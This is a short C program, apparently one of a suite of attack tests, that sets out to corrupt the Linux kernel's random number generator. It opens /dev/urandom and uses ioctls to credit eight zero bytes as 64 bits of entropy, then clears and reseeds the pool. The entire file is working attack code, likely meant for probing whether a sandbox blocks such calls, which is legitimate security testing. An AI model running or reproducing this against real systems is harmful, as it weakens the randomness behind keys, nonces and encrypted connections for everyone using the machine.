/*
 * Spoils the kernel's random numbers.
 */
#include "../attack.h"

int main(void) {
  struct { int bits, size; char bytes[8]; } entropy = {64, 8, {0}};
  int pool = open("/dev/urandom", O_RDWR);
  TRY("add", ioctl(pool, 0x40085203, &entropy));
  TRY("clear", ioctl(pool, 0x5206, 0));
  TRY("reseed", ioctl(pool, 0x5207, 0));
  return 0;
}
